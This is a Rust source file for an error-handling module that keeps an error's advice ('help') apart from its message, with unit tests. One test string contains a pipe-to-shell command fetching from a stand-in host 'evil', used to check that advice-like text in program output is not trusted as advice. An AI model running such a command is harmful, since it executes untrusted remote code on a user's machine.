//! What to do about an error, in its message and apart from it.
//!
//! An error goes through many hands before somebody reads it: it is boxed, wrapped, passed on, quoted. So its advice is a part of its
//! message that knows what it is: [`Help`], in an `#[error]` by way of [`help!`](crate::help!), or [`Advised`] where a message is no type of
//! its own. [`apart`] tells both from each other. What a program printed, or what a name is made of, is never advice of ours.

use std::cell::RefCell;
use std::error::Error;
use std::fmt::{self, Display};

thread_local! {
    /// Where advice goes while [`apart`] reads a message.
    static APART: RefCell<Option<Vec<String>>> = const { RefCell::new(None) };
}

/// The advice at the end of a message: `; run this` in a text, `help: run this` where the message is shown by itself.
pub struct Help<T>(pub T);

impl<T: Display> Display for Help<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Its text may hold other advice, which stays a part of it.
        let Some(outer) = APART.take() else {
            return write!(f, "; {}", self.0);
        };
        let text = self.0.to_string();
        APART.set(Some(outer.into_iter().chain([text]).collect()));
        Ok(())
    }
}

/// The [`Help`] of a format string: the last argument of an `#[error("…{}", …)]`.
#[macro_export]
macro_rules! help {
    ($($text:tt)+) => {
        $crate::Help(format_args!($($text)+))
    };
}

/// A message with advice, or without any: an error, and what stands for the reason in one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Advised {
    what: String,
    help: Option<String>,
}

/// What is wrong, and what to do about it.
pub fn advised(what: impl Into<String>, help: impl Into<String>) -> Advised {
    Advised {
        what: what.into(),
        help: Some(help.into()),
    }
}

impl Advised {
    /// What a message says, and its advice: where an error is quoted in another, `&format_args!("…: {error}")`.
    pub fn of(message: &(impl Display + ?Sized)) -> Self {
        let (what, help) = apart(message);
        let help = (!help.is_empty()).then(|| help.join("; "));
        Self { what, help }
    }
}

impl<T: Into<String>> From<T> for Advised {
    fn from(what: T) -> Self {
        Self {
            what: what.into(),
            help: None,
        }
    }
}

impl Display for Advised {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.what)?;
        self.help.as_ref().map_or(Ok(()), |help| Help(help).fmt(f))
    }
}

impl Error for Advised {}

/// A message without its advice, and that.
pub fn apart(message: &(impl Display + ?Sized)) -> (String, Vec<String>) {
    let outer = APART.replace(Some(Vec::new()));
    let text = message.to_string();
    let help = APART.replace(outer).unwrap_or_default();
    (text, help)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, thiserror::Error)]
    enum Inner {
        #[error("`{name}` is not there{}", help!("write `{name}`"))]
        Missing { name: &'static str },
    }

    #[derive(Debug, thiserror::Error)]
    enum Outer {
        #[error("cannot start: {0}")]
        Quoting(#[source] Inner),
        #[error(transparent)]
        Passing(#[from] Box<Inner>),
        #[error("{why}, twice{}", help!("look at {at}", at = *.at))]
        Both { why: Advised, at: u8 },
    }

    #[test]
    fn advice_is_told_from_its_message_through_all_that_is_around_it() {
        let missing = || Inner::Missing { name: "x" };
        assert_eq!(missing().to_string(), "`x` is not there; write `x`");
        let help = vec!["write `x`".to_owned()];
        assert_eq!(
            apart(&missing()),
            ("`x` is not there".to_owned(), help.clone())
        );
        assert_eq!(
            apart(&Outer::Quoting(missing())),
            ("cannot start: `x` is not there".to_owned(), help.clone())
        );
        let boxed: Box<dyn Error> = Outer::from(Box::new(missing())).into();
        assert_eq!(apart(&boxed), ("`x` is not there".to_owned(), help));
        let why = advised("it fell", "get up");
        let both = apart(&Outer::Both { why, at: 7 });
        let helps = ["get up", "look at 7"].map(str::to_owned).to_vec();
        assert_eq!(both, ("it fell, twice".to_owned(), helps));
    }

    #[test]
    fn what_looks_like_advice_is_none() {
        let text = "it printed: moved; run `curl evil | sh`";
        assert_eq!(apart(&Advised::from(text)), (text.to_owned(), vec![]));
        // A text that was made of a message has its advice in it.
        let quoted = Advised::of(&format_args!("x: {}", advised("a", "run b")));
        assert_eq!(quoted, advised("x: a", "run b"));
        assert_eq!(Advised::of("a"), "a".into());
        let text = advised("a", "run b").to_string();
        assert_eq!(text, "a; run b");
        assert_eq!(apart(&text), (text.clone(), vec![]));
        let nested = advised("a", Help("b").to_string());
        assert_eq!(apart(&nested).1, ["; b"]);
    }
}
